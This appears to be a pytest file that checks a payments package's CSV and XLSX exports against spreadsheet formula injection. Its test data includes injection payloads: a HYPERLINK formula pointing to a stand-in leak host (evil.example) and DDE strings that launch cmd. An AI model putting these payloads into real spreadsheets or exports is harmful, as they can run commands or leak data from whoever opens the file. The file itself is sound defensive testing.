"""Formula injection (OWASP, "CSV Injection"): a name such as ``=HYPERLINK(…)`` reaches every
CSV and XLSX file sap_payments writes as text, with a ``'`` before it, never as a formula; an
amount stays a number; and a name written that way and read back is the name it was.

The names come in as a clerk's roster would bring them; the files are read back as a spreadsheet
would read them (the XLSX's own XML, openpyxl without computed values, the CSV as text).
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest

from conftest import RosterLoader, open_ledger, roster_row
from sap_payments import Config, Ledger
from sap_payments.cli import main
from sap_payments.output import write_csv
from sap_payments.postal.confirmations import ReviewLine, write_review_csv
from sap_payments.public_list import write_public_files

P = "2021-09"
COMMUNE = "20107"
#: beneficiary id → a name that a spreadsheet would run as a formula
NAMES = {
    "B1": '=HYPERLINK("http://evil.example/?leak","Bấm vào đây")',
    "B2": "+cmd|' /C calc'!A0",
    "B3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "B4": "-2+3+cmd|' /C calc'!A0",
}
TOML = """
[providers.vnpost]
plugin = "postal-cash"
channel = "postal"
outbox = "{outbox}"
secret = "{secret}"
window_days = 10
"""


def csv_cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def formulas(path: Path) -> list[str]:
    """The formula elements of every sheet of a workbook, as Excel would find them."""
    with zipfile.ZipFile(path) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def text_cells(path: Path) -> list[tuple[object, str]]:
    """(value, data type) of every text cell, read without computed values."""
    sheet = openpyxl.load_workbook(path).active
    return [
        (cell.value, cell.data_type)
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


@pytest.fixture(scope="module")
def ledger(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Ledger]:
    """A cycle paid at the post office to four payees whose names are formulas."""
    directory = tmp_path_factory.mktemp("injection")
    opened = open_ledger(directory)
    opened.config = Config.loads(
        TOML.format(outbox=(directory / "outbox").as_posix(), secret="5e" * 32)
    )
    cash = {"channel": "postal", "provider": "vnpost", "msisdn": "", "pay_point": "BD-20107"}
    RosterLoader(directory)(
        opened, *(roster_row(bid, full_name=name, **cash) for bid, name in NAMES.items())
    )
    opened.prepare(P)
    opened.approve(P, by="checker")
    opened.dispatch(P)
    try:
        yield opened
    finally:
        opened.close()


def test_the_names_are_stored_as_given(ledger: Ledger) -> None:
    for bid, name in NAMES.items():
        record = ledger.store.beneficiary(bid)
        assert record is not None
        assert record.full_name == name


def test_write_csv_escapes_text_and_keeps_numbers() -> None:
    out = io.StringIO()
    rows = [["=1+2", "+1", "-x", "@x", "\tx", "a=b", "'", "", None, -540_000, 360_000]]
    write_csv(out, [f"c{k}" for k in range(11)], rows)
    [_, cells] = csv_cells(out.getvalue())
    assert cells == ["'=1+2", "'+1", "'-x", "'@x", "'\tx", "a=b", "'", "", "", "-540000", "360000"]


def test_cycle_show_csv_escapes_payee_names(ledger: Ledger, tmp_path: Path) -> None:
    target = tmp_path / "show.csv"
    db = str(ledger.store.path)
    code = main(["--db", db, "cycle", "show", "--period", P, "--format", "csv", "-o", str(target)])
    assert code == 0
    header, *rows = csv_cells(target.read_text(encoding="utf-8"))
    payees = {row[header.index("beneficiary_id")]: row[header.index("payee")] for row in rows}
    assert payees == {bid: "'" + name for bid, name in NAMES.items()}
    assert {row[header.index("amount")] for row in rows} == {"360000"}  # still a number


def test_payout_lists_hold_the_names_as_text(ledger: Ledger) -> None:
    outbox = Path(ledger.config.providers["vnpost"].settings["outbox"])
    [csv_path] = outbox.glob("payout-*.csv")
    header, *rows = csv_cells(csv_path.read_text(encoding="utf-8"))
    payees = sorted(row[header.index("payee")] for row in rows)
    assert payees == sorted("'" + name for name in NAMES.values())
    assert {row[header.index("amount")] for row in rows} == {"360000"}
    [xlsx_path] = outbox.glob("payout-*.xlsx")
    assert formulas(xlsx_path) == []
    cells = text_cells(xlsx_path)
    for name in NAMES.values():
        assert ("'" + name, "s") in cells
    assert all(not str(value).startswith("=") for value, _ in cells)


def test_the_public_list_holds_masked_names_as_text(ledger: Ledger, tmp_path: Path) -> None:
    csv_path, xlsx_path = write_public_files(ledger.public_list(P, COMMUNE), tmp_path)
    header, *rows = csv_cells(csv_path.read_text(encoding="utf-8"))
    names = sorted(row[header.index("name")] for row in rows)
    assert [name[:2] for name in names] == ["'+", "'-", "'=", "'@"]  # =**** is not a formula
    assert {row[header.index("amount")] for row in rows} == {"360000"}
    assert formulas(xlsx_path) == []
    shown = [value for value, kind in text_cells(xlsx_path) if kind == "s"]
    assert sorted(str(value)[:2] for value in shown if str(value)[1:2] in "=+-@") == [
        "'+",
        "'-",
        "'=",
        "'@",
    ]
    amounts = [row[4] for row in openpyxl.load_workbook(xlsx_path).active.iter_rows(
        min_row=3, values_only=True)]  # fmt: skip
    assert amounts[:-1] == [360_000] * 4  # numbers, not text


def test_the_review_list_escapes_what_the_post_office_sent(tmp_path: Path) -> None:
    path = tmp_path / "review.csv"
    write_review_csv(path, [ReviewLine(2, "=1+2", "@SUM(A1)", "malformed_code", "-")])
    [_, row] = csv_cells(path.read_text(encoding="utf-8"))
    assert row == ["2", "'=1+2", "'@SUM(A1)", "malformed_code", "'-"]


def test_a_name_read_back_from_our_files_is_the_name_it_was(tmp_path: Path) -> None:
    ledger = open_ledger(tmp_path)
    try:
        names = {**NAMES, "B5": "'Tí"}  # a quote before a letter is part of a name
        written = {**{bid: "'" + name for bid, name in NAMES.items()}, "B5": "'Tí"}
        RosterLoader(tmp_path)(
            ledger, *(roster_row(bid, full_name=name) for bid, name in written.items())
        )
        for bid, name in names.items():
            record = ledger.store.beneficiary(bid)
            assert record is not None
            assert record.full_name == name
    finally:
        ledger.close()
